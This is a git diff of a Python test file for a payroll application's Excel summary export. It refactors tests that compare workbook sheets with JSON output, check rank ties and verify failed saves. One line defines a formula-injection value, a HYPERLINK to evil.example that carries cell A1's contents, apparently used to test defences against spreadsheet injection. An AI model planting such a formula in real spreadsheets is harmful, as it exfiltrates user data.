@@ -13,14 +13,16 @@ import openpyxl
 import pytest
 from openpyxl.workbook.workbook import Workbook
 
+from app.cli import month_json
+from app.money import ZERO
 from app.reports.summary_xlsx import (
     Column,
     SummaryBook,
     SummaryInput,
-    line_codes_present,
     ranking,
     write_summary,
 )
+from app.results import AgentResult, MonthResult, facts_from_json
 from app.services.errors import ServiceError
 from app.services.payroll import show_month
 from app.services.reports import export_summary
@@ -31,9 +33,10 @@ SHEETS = ["汇总", "明细", "保单明细", "考勤汇总", "质检汇总", "�
 
 
 def _export(db: Database, path: Path) -> tuple[openpyxl.Workbook, dict[str, Any]]:
+    """The workbook and the month as ``payroll show --json`` prints it, to compare the two."""
     with db.session_scope() as s:
         export_summary(s, MONTH, path)
-        data = show_month(s, MONTH)
+        data = month_json(show_month(s, MONTH), "zh")
     return openpyxl.load_workbook(path), data
 
 
@@ -61,7 +64,7 @@ def test_sheets_and_summary_match_the_json(exported: tuple[openpyxl.Workbook, di
     rows = _rows(ws)
     agents = data["agents"]
     assert len(rows) == len(agents) + 1
-    codes = line_codes_present(agents)
+    codes = {line["code"] for a in agents for line in a["lines"]}
     header = [c.value for c in ws[1]]
     assert header[:3] == ["工号", "姓名", "团队"] and header[-3:] == ["应发合计", "扣款合计", "实发金额"]
     assert header[3:-3] == [
@@ -175,10 +178,10 @@ def test_ranking_for_posting_marks_the_award_and_shows_no_pay(
 
 def test_equal_scores_share_a_rank() -> None:
     agents = [
-        {"code": c, "facts": {"kpi_score": s}}
-        for c, s in (("A", "90.00"), ("B", "95.00"), ("C", "90.00"), ("D", None), ("E", "80.00"))
+        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s}))
+        for c, s in (("A", "90.00"), ("B", "95.00"), ("C", "90.00"), ("D", "0"), ("E", "80.00"))
     ]
-    assert [(r, a["code"]) for r, a in ranking(agents)] == [(1, "B"), (2, "A"), (2, "C"), (4, "E"), (5, "D")]
+    assert [(r, a.code) for r, a in ranking(agents)] == [(1, "B"), (2, "A"), (2, "C"), (4, "E"), (5, "D")]
 
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
@@ -232,7 +235,7 @@ def test_failed_save_leaves_the_previous_file(
     monkeypatch.setattr(Workbook, "save", boom)
     with pytest.raises(RuntimeError):
         write_summary(
-            SummaryInput(month=MONTH, branch_name="x", result={"agents": [], "status": "calculated"}), target
+            SummaryInput(month=MONTH, branch_name="x", result=MonthResult(MONTH, "calculated", "", "", ())), target
         )
     assert target.read_bytes() == b"previous"
     assert [p.name for p in tmp_path.iterdir()] == ["s.xlsx"]
